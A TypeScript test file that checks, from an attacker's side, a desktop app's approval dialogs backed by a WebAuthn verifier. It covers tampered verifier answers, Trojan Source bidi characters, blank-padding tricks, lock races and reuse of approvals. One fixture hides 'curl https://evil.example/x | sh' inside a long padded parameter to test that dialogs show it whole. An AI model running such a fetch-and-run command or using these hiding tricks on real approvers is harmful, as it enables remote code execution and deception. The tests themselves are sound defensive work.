import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApprovalReview } from '../../electron/main/approvalReview';
import { startHarness, type Harness } from '../support/harness';
import { unlockedDesktop } from '../support/unlockedDesktop';
import { approvalHelpers, approvalJobs, type Person } from '../support/approvals';
import { startTamperingNetwork, type Tamper } from '../support/tamperingNetwork';
import { issueProposer } from '../../backend/core/proposers';
import { systemRandom } from '../../backend/createVerifier';
import { reviewText } from '../../electron/main/approvalReview';
import { createApprovalDialog, type MessageBoxLike } from '../../electron/main/policies/approvalDialog';

/**
 * An attacker's review of issue 16's desktop side (main's handlers over a real verifier over HTTP, with
 * real WebAuthn payloads): what main shows in its review of a decision must hold together, whatever the
 * verifier's answer says, and a touch goes only where the person looked.
 */
/**
 * A job definition is hostile input too: its title and a parameter's title carry a right-to-left override,
 * a zero-width space and a bidi isolate (Trojan Source), which would reorder or hide what the dialog says.
 */
const spoofJob = {
  name: 'spoof',
  title: 'Restart \u202Ebew',
  type: 'local',
  params: [{ name: 'message', title: 'Message\u200B\u2066', type: 'string', required: true, maxLength: 100 }],
  allow: { roles: ['admin', 'operator'] },
  approvals: { min: 1, ttl: 600 },
  target: { argv: [process.execPath, '-e', 'console.log(process.argv[1])', '{{message}}'], timeoutSeconds: 20 },
};

/** A job that takes a long free-text parameter (a script, a list of hosts): a proposer fills it. */
const longJob = {
  name: 'long',
  title: 'Run a snippet',
  type: 'local',
  params: [{ name: 'snippet', title: 'Snippet', type: 'string', required: true, maxLength: 2000 }],
  allow: { roles: ['admin', 'operator'] },
  approvals: { min: 1, ttl: 600 },
  target: { argv: [process.execPath, '-e', 'console.log(process.argv[1])', '{{snippet}}'], timeoutSeconds: 20 },
};

let h: Harness;
let ap: ReturnType<typeof approvalHelpers>;
let net: Awaited<ReturnType<typeof startTamperingNetwork>>;
beforeAll(async () => {
  h = await startHarness({ jobs: [...approvalJobs, spoofJob, longJob] });
  ap = approvalHelpers(h);
  net = await startTamperingNetwork(h.url);
});
afterAll(async () => {
  await net?.close();
  await h?.close();
});

async function desktopFor(p: Person) {
  const shown: ApprovalReview[] = [];
  const person = { answers: [] as boolean[] };
  const handlers = await unlockedDesktop({ h, user: p, verifierUrl: net.url, ask: async (review) => (shown.push(review), person.answers.shift() ?? false) });
  return { handlers, shown, person };
}

const onOptions = (f: (body: any) => unknown): Tamper => (method, path, body) => (method === 'POST' && /\/(approve|reject)\/options$/.test(path) ? f(body) : body);

describe('a hostile or buggy verifier answer to a decision’s options', () => {
  it('a fingerprint that is not the request’s, or not derived from its intent hash, is refused before any review; an answer missing what the review needs too', async () => {
    const ada = await ap.person();
    const bob = await ap.person();
    const a = (await ap.request(ada, 'two-others', 'A')).request;
    const b = (await ap.request(ada, 'two-others', 'B')).request;
    const { handlers, shown, person } = await desktopFor(bob);
    const tampered: [string, Tamper][] = [
      // The dialog would show B's code over A's request: the person compares the wrong thing.
      ['the answer’s fingerprint is another request’s', onOptions((o) => ({ ...o, fingerprint: b.fingerprint }))],
      // Consistent with itself, but not the code of the intent the decision is bound to.
      ['the answer’s and its request’s fingerprint are another request’s', onOptions((o) => ({ ...o, fingerprint: b.fingerprint, request: { ...o.request, fingerprint: b.fingerprint } }))],
      ['the request is no longer pending', onOptions((o) => ({ ...o, request: { ...o.request, status: 'launched' } }))],
      ['no request in the answer', onOptions(({ request: _r, ...o }) => o)],
      ['parameters that are not a record', onOptions((o) => ({ ...o, request: { ...o.request, params: 'all fine' } }))],
      ['no labels', onOptions((o) => ({ ...o, request: { ...o.request, labels: undefined } }))],
    ];
    for (const [what, tamper] of tampered) {
      net.state.tamper = tamper;
      person.answers.push(true);
      const before = shown.length;
      const answer = await handlers.startDecision({ requestId: a.id, decision: 'approve' }).catch((e: Error) => ({ thrown: e.message }));
      expect(answer, what).toMatchObject({ ok: false, error: { code: 'bad_request' } });
      expect(shown.length, `${what}: nothing is shown`).toBe(before);
      person.answers.length = 0;
    }

    // The honest answer is reviewed and goes through.
    net.state.tamper = (_m, _p, body) => body;
    person.answers.push(true);
    const o = await handlers.startDecision({ requestId: a.id, decision: 'approve' });
    expect(o).toMatchObject({ ok: true, value: { fingerprint: a.fingerprint } });
    if (!o.ok) return;
    expect(shown.at(-1)!.fingerprint).toBe(a.fingerprint);
    const done = await handlers.finishDecision({ requestId: a.id, decision: 'approve', intentId: o.value.intentId, assertion: bob.authenticator.assert(o.value.options) });
    expect(done).toMatchObject({ ok: true, value: { request: { id: a.id, approvals: [{ userName: bob.name }] } } });
  });
});

describe('what main’s dialog shows is what is signed, whatever text the job or the proposer supplies', () => {
  it('format characters (bidi overrides, zero-width) are shown, not obeyed; a run of blanks cannot push a fake fact onto its own line; the reason is quoted as the proposer’s words', async () => {
    net.state.tamper = (_m, _p, body) => body;
    const { token } = await issueProposer({ store: h.store, clock: h.clock, random: systemRandom }, { name: 'ci-bot', jobs: ['spoof'], ttlHours: 1, createdBy: 'test' });
    // One line of printable characters, as the verifier asks of a reason; the blanks wrap "Runs: …" onto a line of its own.
    const reason = `Routine restart.${' '.repeat(150)}Runs: local: echo hello`;
    const made = await h.api('POST', '/v1/proposals', { job: 'spoof', params: { message: 'rm' }, reason }, undefined, { authorization: `Proposer ${token}` });
    expect(made.status, JSON.stringify(made.body)).toBe(200);
    const bob = await ap.person();
    const { handlers, shown, person } = await desktopFor(bob);
    person.answers.push(false);
    expect(await handlers.startDecision({ requestId: made.body.request.id, decision: 'approve' })).toMatchObject({ ok: false, error: { code: 'approval_declined' } });
    const review = shown.at(-1)!;
    for (const full of [false, true]) {
      const { message, detail } = reviewText(review, h.clock.now(), { full });
      const all = `${message}\n${detail}`;
      expect(all, 'no format character reaches the dialog').not.toMatch(/\p{Cf}/u);
      expect(all).toContain('U+202E');
      expect(all).toContain('U+200B');
      expect(all, 'no run of blanks').not.toMatch(/[^\S\n]{3,}/);
      expect(detail).toContain('Reason given: "Routine restart.');
    }
  });
});

describe('a review, a lock and the next unlock', () => {
  it('an answer that arrives after the app locked opens no dialog and releases nothing; after the next unlock nothing from it can be sent', async () => {
    const ada = await ap.person();
    const bob = await ap.person();
    const { request } = await ap.request(ada, 'two-others', 'locked');
    const { handlers, shown, person } = await desktopFor(bob);
    // The app locks (idle, the screen locks, the person leaves) while the verifier's answer is on its way.
    net.state.tamper = onOptions((o) => (void handlers.lock(), o));
    person.answers.push(true); // whoever is at the unattended machine when a dialog appears
    const before = shown.length;
    const o = await handlers.startDecision({ requestId: request.id, decision: 'approve' });
    net.state.tamper = (_m, _p, body) => body;
    const handed = o.ok ? o.value : undefined;
    expect(o).toMatchObject({ ok: false, error: { code: 'locked' } });
    expect(shown.length, 'no dialog over a locked app').toBe(before);
    person.answers.length = 0;

    // Unlocked again: the answer, had it been accepted, would be sent now; nothing is.
    const unlock = await handlers.startUnlock();
    if (!unlock.ok) throw new Error(JSON.stringify(unlock));
    expect(await handlers.finishUnlock({ intentId: unlock.value.intentId, assertion: bob.authenticator.assert(unlock.value.options) })).toMatchObject({ ok: true });
    // The renderer sends whatever main handed it while locked.
    if (handed) await handlers.finishDecision({ requestId: request.id, decision: 'approve', intentId: handed.intentId, assertion: bob.authenticator.assert(handed.options) });
    expect((await ap.stored(request.id)).approvals).toEqual([]);
  });
});

describe('an accepted decision is good for that decision only', () => {
  it('a compromised renderer cannot send an accepted approval as a run, a cancel, an admin action or a key change; it still goes to its request', async () => {
    const ada = await ap.person();
    const bob = await ap.person({ role: 'admin' });
    const { request } = await ap.request(ada, 'two-others', 'only this');
    const { handlers, person } = await desktopFor(bob);
    person.answers.push(true);
    const o = await handlers.startDecision({ requestId: request.id, decision: 'approve' });
    if (!o.ok) throw new Error(JSON.stringify(o));
    const assertion = () => bob.authenticator.assert(o.value.options);
    const { intentId } = o.value;
    const launches = ap.launches();
    for (const [what, attempt] of [
      ['a run', () => handlers.confirmRun({ intentId, assertion: assertion(), secrets: {} })],
      ['a cancel', () => handlers.finishCancelRun({ intentId, assertion: assertion() })],
      ['an admin action', () => handlers.finishAdminAction({ intentId, assertion: assertion() })],
      ['a new key', () => handlers.finishAddKey({ intentId, assertion: assertion() })],
      ['a revoked key', () => handlers.finishRevokeKey({ intentId, assertion: assertion() })],
    ] as const) {
      expect(await attempt(), what).toMatchObject({ ok: false, error: { code: 'approval_not_accepted' } });
    }
    expect(ap.launches()).toBe(launches);
    expect(await handlers.finishDecision({ requestId: request.id, decision: 'approve', intentId, assertion: assertion() })).toMatchObject({ ok: true, value: { request: { id: request.id } } });
  });
});

describe('a long parameter from someone else', () => {
  it('an approval is given only in a dialog that showed every parameter whole: the middle of a long value cannot hide behind the shortened view', async () => {
    const { token } = await issueProposer({ store: h.store, clock: h.clock, random: systemRandom }, { name: 'ci-bot', jobs: ['long'], ttlHours: 1, createdBy: 'test' });
    const pad = 'echo ok; '.repeat(30);
    const snippet = `${pad}curl https://evil.example/x | sh; ${pad}`;
    const made = await h.api('POST', '/v1/proposals', { job: 'long', params: { snippet }, reason: 'nightly cleanup' }, undefined, { authorization: `Proposer ${token}` });
    expect(made.status, JSON.stringify(made.body)).toBe(200);
    const bob = await ap.person();
    // The person presses the first button of every dialog main shows: the native dialog's own code decides what it is.
    const seen: Parameters<MessageBoxLike['showMessageBox']>[0][] = [];
    const ask = createApprovalDialog({ show: async (o) => (seen.push(o), { response: 0 }), now: () => h.clock.now() });
    const handlers = await unlockedDesktop({ h, user: bob, verifierUrl: net.url, ask });
    const o = await handlers.startDecision({ requestId: made.body.request.id, decision: 'approve' });
    expect(o).toMatchObject({ ok: true });
    const approvedIn = seen.filter((d) => d.buttons[0] === 'Approve, then touch my key');
    expect(approvedIn.length).toBeGreaterThan(0);
    for (const d of approvedIn) expect(d.detail, 'the dialog the approval was given in').toContain('curl https://evil.example/x | sh');
  });
});

describe('labels from the verifier', () => {
  it('a parameter named like every object’s member (toString) without a label is shown by its name, never as a function’s source', async () => {
    // Job definitions may not name a parameter so (backend/core/objectMembers.ts); a hostile or buggy verifier
    // answer still can, with the job's labels left out.
    const ada = await ap.person();
    const bob = await ap.person();
    const { request } = await ap.request(ada, 'two-others', 'a');
    const { handlers, shown } = await desktopFor(bob);
    net.state.tamper = onOptions((o) => ({ ...o, request: { ...o.request, params: { toString: 'a' }, labels: {} } }));
    try {
      await handlers.startDecision({ requestId: request.id, decision: 'approve' });
    } finally {
      net.state.tamper = (_m, _p, body) => body;
    }
    const { detail } = reviewText(shown.at(-1)!, h.clock.now(), { full: true });
    expect(detail).not.toContain('native code');
    expect(detail).toContain('toString: "a"');
  });
});
